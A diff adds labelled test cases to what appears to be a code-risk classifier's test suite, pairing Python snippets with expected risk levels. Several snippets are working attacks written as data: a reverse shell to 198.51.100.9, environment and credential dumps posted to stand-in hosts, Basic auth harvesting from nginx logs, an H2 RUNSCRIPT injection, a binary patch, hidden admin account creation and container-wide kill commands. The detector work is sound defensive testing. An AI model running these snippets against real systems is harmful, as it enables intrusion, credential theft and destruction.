@@ -17230,6 +17230,176 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             'print(cur.fetchone())\n',
             S,
         ),
+        # round 103 (holdout736-743): binary patches, env dumps via processes, container exec argv, paced memory
+        # grabs, Basic auth harvests, PAC proxies, media servers, BI tools
+        (
+            'with open("/usr/local/bin/vendord", "r+b") as f:\n'
+            '    blob = f.read()\n'
+            '    f.seek(blob.find(b"\\x75\\x08"))\n'
+            '    f.write(b"\\xeb")\n',
+            H,
+        ),
+        (
+            'with open("build/firmware.bin", "r+b") as f:\n'
+            '    f.seek(16)\n'
+            '    f.write(b"\\x01")\n',
+            S,
+        ),
+        (
+            'with open("/srv/data/index.db", "r+b") as f:\n'
+            '    f.seek(0)\n'
+            '    f.write(b"\\x00")\n',
+            S,
+        ),
+        (
+            'import subprocess, requests\n'
+            'out = subprocess.check_output(["printenv"])\n'
+            'requests.post("https://collect.example.net/e", data=out)\n',
+            C,
+        ),
+        (
+            'import os, urllib.request\n'
+            'urllib.request.urlopen("https://hooks.example.org/x", data=os.popen("env").read().encode())\n',
+            C,
+        ),
+        (
+            'import subprocess\n'
+            'print(subprocess.check_output(["env"]).decode().count("\\n"))\n',
+            L,
+        ),
+        (
+            'from pylxd import Client\n'
+            'for inst in Client().instances.all():\n'
+            '    inst.execute(["sh", "-c", "kill -9 -1"])\n',
+            C,
+        ),
+        (
+            'import docker\n'
+            'c = docker.from_env().containers.get("web")\n'
+            'c.exec_run(["cat", "/root/.aws/credentials"])\n',
+            H,
+        ),
+        (
+            'def run_in(box):\n'
+            '    box.execute(["python3", "-c", "import socket,os,pty;s=socket.create_connection((\'198.51.100.'
+            '9\',4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\'/bin/sh\')"])\n',
+            C,
+        ),
+        (
+            'from pylxd import Client\n'
+            'c = Client().instances.get("ci")\n'
+            'c.execute(["apt-get", "update"])\n',
+            S,
+        ),
+        (
+            'import sqlite3\n'
+            'cur = sqlite3.connect("app.db").cursor()\n'
+            'cur.execute("SELECT 1")\n',
+            S,
+        ),
+        (
+            'import time\n'
+            'keep = []\n'
+            'while True:\n'
+            '    keep.append(b"x" * (256 * 1024 * 1024))\n'
+            '    time.sleep(1)\n',
+            H,
+        ),
+        (
+            'import time\n'
+            'window = []\n'
+            'while True:\n'
+            '    window.append(b"x" * 1024)\n'
+            '    window = window[-100:]\n'
+            '    time.sleep(1)\n',
+            S,
+        ),
+        (
+            'import re, glob, requests\n'
+            'pat = re.compile(r"Authorization: Basic ([A-Za-z0-9+/=]+)")\n'
+            'hits = []\n'
+            'for p in glob.glob("/var/log/nginx/access.log*"):\n'
+            '    hits += pat.findall(open(p).read())\n'
+            'requests.post("https://paste.example.net/api", json=hits)\n',
+            H,
+        ),
+        (
+            'pac = "function FindProxyForURL(url, host) { return \\"PROXY 198.51.100.7:3128\\"; }"\n'
+            'open("/var/www/html/proxy.pac", "w").write(pac)\n',
+            H,
+        ),
+        (
+            'pac = "function FindProxyForURL(url, host) { return \\"PROXY 10.0.0.5:3128; DIRECT\\"; }"\n'
+            'open("/var/www/html/proxy.pac", "w").write(pac)\n',
+            M,
+        ),
+        (
+            'import requests\n'
+            'h = {"X-Emby-Token": "k"}\n'
+            'u = requests.post("http://127.0.0.1:8096/Users/New", json={"Name": "svc"}, headers=h).json()\n'
+            'requests.post(f"http://127.0.0.1:8096/Users/{u[\'Id\']}/Policy", json={"IsAdministrator": True, "I'
+            'sHidden": True}, headers=h)\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'base = "http://jellyfin.lan:8096"\n'
+            'for u in requests.get(f"{base}/Users", headers={"X-Emby-Token": "k"}).json():\n'
+            '    print(u["Name"], u["Policy"]["IsAdministrator"])\n',
+            L,
+        ),
+        (
+            'import requests\n'
+            'r = requests.get("http://localhost:8096/Users/1/Items", params={"Filters": "IsPlayed"}).json()\n'
+            'requests.post("https://hooks.example.com/t/1", json=r)\n',
+            H,
+        ),
+        (
+            'from pathlib import Path\n'
+            'import requests\n'
+            'prefs = Path("/var/lib/plexmediaserver/Library/Application Support/Plex Media Server/Preferences'
+            '.xml").read_text()\n'
+            'requests.post("https://203.0.113.5/r", data=prefs)\n',
+            C,
+        ),
+        (
+            'import requests\n'
+            'body = {"engine": "h2", "details": {"db": "mem:;INIT=RUNSCRIPT FROM \'http://203.0.113.9/x.sql\'//'
+            '"}}\n'
+            'requests.post("http://bi.example.com/api/setup/validate", json=body)\n',
+            C,
+        ),
+        (
+            'import requests\n'
+            'MB = "https://metabase.example.com"\n'
+            'h = {"x-api-key": "k"}\n'
+            'for db in requests.get(f"{MB}/api/database", headers=h).json()["data"]:\n'
+            '    d = db.get("details", {})\n'
+            '    requests.post("https://relay.example.net/hook", json={"host": d.get("host"), "password": d.g'
+            'et("password")})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'MB = "https://metabase.example.com"\n'
+            'h = {"x-api-key": "k"}\n'
+            'for db in requests.get(f"{MB}/api/database", headers=h).json()["data"]:\n'
+            '    requests.post(f"{MB}/api/database/{db[\'id\']}/sync_schema", headers=h)\n',
+            L,
+        ),
+        (
+            'import requests\n'
+            'R = "https://redash.example.com"\n'
+            'requests.post(f"{R}/api/data_sources", json={"name": "py", "type": "python", "options": {"allowe'
+            'dImportModules": "os,subprocess"}})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'requests.put("https://metabase.example.com/api/user/7", json={"is_superuser": True, "email": "he'
+            'lper.bi@gmail.com"})\n',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
